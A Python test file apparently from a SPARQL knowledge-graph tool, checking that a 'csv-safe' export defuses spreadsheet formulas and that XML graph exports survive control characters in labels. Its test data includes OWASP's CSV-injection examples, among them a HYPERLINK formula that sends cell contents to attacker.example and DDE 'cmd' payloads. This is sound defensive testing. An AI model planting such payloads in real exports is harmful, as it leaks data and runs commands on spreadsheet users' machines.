"""Exports people open: CSV that no spreadsheet runs as a formula, XML files that stay
well-formed whatever the labels hold.

The reported cells (SIPRI comments such as ``=HYPERLINK(...)`` and ``+cmd|' /C calc'!A0``) went
straight into spreadsheets from `query --format csv`, the server and the query page's "Download
CSV". The W3C SPARQL CSV must give every cell exactly, so it stays as it is on the protocol
endpoint and in `query --format csv` (the same bytes, pinned here); `query --format csv-safe`
and the page's download quote every cell and prefix an apostrophe to a cell beginning with
= + - @, a tab or a carriage return (OWASP's rule), the same bytes in both.

A label with control characters made the GraphML and GEXF files unreadable ("not well-formed");
every export of a graph holding such a label is parsed here by networkx and lxml.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import networkx as nx
import pyoxigraph as ox
import pytest
from cli_run import invoke
from lxml import etree, html
from test_page_browser import headless_chromium, set_query
from test_server import (
    ROOT,
    RunningServer,
    get_query,
    post_form,
    served_store_path,
    start_server,
    stop_server,
)

from caucasus_kg.read.export import export
from caucasus_kg.read.export_options import FORMATS
from caucasus_kg.read.network import Filters, build_network
from caucasus_kg.read.results import FORMULA_LEADERS, spreadsheet_cell

if TYPE_CHECKING:
    from playwright.sync_api import Browser

CELLS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    'plain text, with a comma and "quotes"',
    "a line\nbreak",
    "",
]
"""Cells a dataset could hold: the first four are OWASP's examples of CSV injection."""


def sparql_string(text: str) -> str:
    return '"' + (text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
                  .replace("\r", "\\r").replace("\t", "\\t")) + '"'


FORMULAS = ("SELECT ?n ?cell ?link WHERE { VALUES (?n ?cell ?link) { "
            + " ".join(f"({i} {sparql_string(c)} <https://w3id.org/caucasus-kg/id/x{i}>)"
                       for i, c in enumerate(CELLS))
            + " } } ORDER BY ?n")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    running = start_server(served_store_path(tmp_path_factory))
    try:
        yield running
    finally:
        stop_server(running)


def query(server: RunningServer, *args: str) -> bytes:
    """What `caucasus-kg query ...` prints on the server's store."""
    result = invoke(["--project", str(ROOT), "--store", str(server.store_path), "query", *args])
    assert result.exit_code == 0, result.stderr
    return result.stdout_bytes


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_the_w3c_csv_is_exact_and_the_same_bytes_on_the_command_line_and_the_server(
        server: RunningServer) -> None:
    printed = query(server, FORMULAS, "--format", "csv")
    for answer in (get_query(server, FORMULAS, format="csv"),
                   get_query(server, FORMULAS, accept="text/csv"),
                   post_form(server, {"query": FORMULAS}, accept="text/csv")):
        assert answer.status == 200, answer.text
        assert answer.media_type == "text/csv"
        assert answer.body == printed
    found = rows(printed)
    assert found[0] == ["n", "cell", "link"]
    assert [row[1] for row in found[1:]] == CELLS  # every cell exactly as stored
    assert printed.startswith(b"n,cell,link\r\n0,\"=HYPERLINK(")  # quoted only where needed


def test_csv_safe_quotes_every_cell_and_defuses_every_formula(server: RunningServer) -> None:
    data = query(server, FORMULAS, "--format", "csv-safe")
    found = rows(data)
    assert found[0] == ["n", "cell", "link"]
    assert [row[1] for row in found[1:]] == [spreadsheet_cell(c) for c in CELLS]
    assert [row[1] for row in found[1:5]] == ["'" + c for c in CELLS[:4]]
    assert found[5][1] == "'\tstarts with a tab" and found[6][1].startswith("'\r")
    assert found[7][1] == CELLS[6]  # nothing to defuse: the text is kept
    assert [row[2] for row in found[1:]] == [f"https://w3id.org/caucasus-kg/id/x{i}"
                                             for i in range(len(CELLS))]
    assert not any(cell.startswith(FORMULA_LEADERS) for row in found for cell in row)
    records = data.split(b"\r\n")
    assert records[-1] == b""
    assert records[0] == b'"n","cell","link"'
    assert records[1].startswith(b'"0","\'=HYPERLINK(""http://attacker.example/')


def test_csv_safe_is_for_rows_only(server: RunningServer) -> None:
    result = invoke(["--project", str(ROOT), "--store", str(server.store_path), "query",
                     "ASK { ?s ?p ?o }", "--format", "csv-safe"])
    assert result.exit_code == 2
    assert "format 'csv-safe' does not fit an ASK answer" in result.stderr


@pytest.fixture(scope="module")
def browser(server: RunningServer) -> Iterator[Browser]:
    with headless_chromium() as chromium:
        yield chromium


def test_the_query_pages_csv_download_is_the_csv_safe_bytes(server: RunningServer,
                                                            browser: Browser,
                                                            tmp_path: Path) -> None:
    from playwright.sync_api import expect

    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(10_000)
    problems: list[str] = []
    page.on("pageerror", lambda exc: problems.append(f"page error: {exc}"))
    try:
        page.goto(server.url + "/")
        page.wait_for_selector("body[data-ready='true']")
        set_query(page, FORMULAS)
        page.click("#run")
        expect(page.locator("#results table.dataTable tbody tr")).to_have_count(len(CELLS))
        with page.expect_download() as download:
            page.click("#download-csv")
        saved = tmp_path / "answer.csv"
        download.value.save_as(saved)
        assert download.value.suggested_filename == "query.csv"
    finally:
        context.close()
    assert not problems, problems
    assert saved.read_bytes() == query(server, FORMULAS, "--format", "csv-safe")


# --------------------------------------------------------------------------------------------
# XML exports of labels with control characters

CONTROL_LABEL = "Russia\x01 \x0b\x1f\ufffe\uffff Federation"


@pytest.fixture(scope="module")
def graph_with_control_characters(store: ox.Store) -> nx.MultiDiGraph:
    """The shipped graph in a store where Russia's label and a quote hold characters XML
    cannot: a store built by other means (or a SPARQL server) may hold them, though the loaders
    refuse them."""
    copy = ox.Store()
    copy.bulk_extend(store.quads_for_pattern(None, None, None, None))
    russia = ox.NamedNode("https://w3id.org/caucasus-kg/id/russia")
    label = ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#label")
    graph = ox.NamedNode("https://w3id.org/caucasus-kg/graph/armenpress-azerbaijan-arms-imports")
    for quad in list(copy.quads_for_pattern(russia, label, None, None)):
        copy.remove(quad)
    copy.add(ox.Quad(russia, label, ox.Literal(CONTROL_LABEL, language="en"), graph))
    return build_network(copy, Filters())


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_export_of_a_label_with_control_characters_is_well_formed(
        graph_with_control_characters: nx.MultiDiGraph, fmt: str) -> None:
    text = export(fmt, graph_with_control_characters, title="Title\x02 with a control")
    data = text.encode("utf-8")  # lone surrogates would make this fail
    if fmt == "graphml":
        etree.fromstring(data)
        read = nx.read_graphml(io.BytesIO(data))
        labels = {d.get("label") for _, d in read.nodes(data=True)}
        assert "Russia\ufffd \ufffd\ufffd\ufffd\ufffd Federation" in labels
    elif fmt == "gexf":
        etree.fromstring(data)
        read = nx.read_gexf(io.BytesIO(data))
        assert any("Russia\ufffd" in str(d.get("label")) for _, d in read.nodes(data=True))
    elif fmt == "svg":
        etree.fromstring(data)
    elif fmt == "json":
        json.loads(text)
    elif fmt in ("html", "timeline"):
        assert html.document_fromstring(data).find(".//body") is not None
    else:  # dot: what Graphviz reads; the svg case shows what it writes from it
        assert "Russia\ufffd" in text
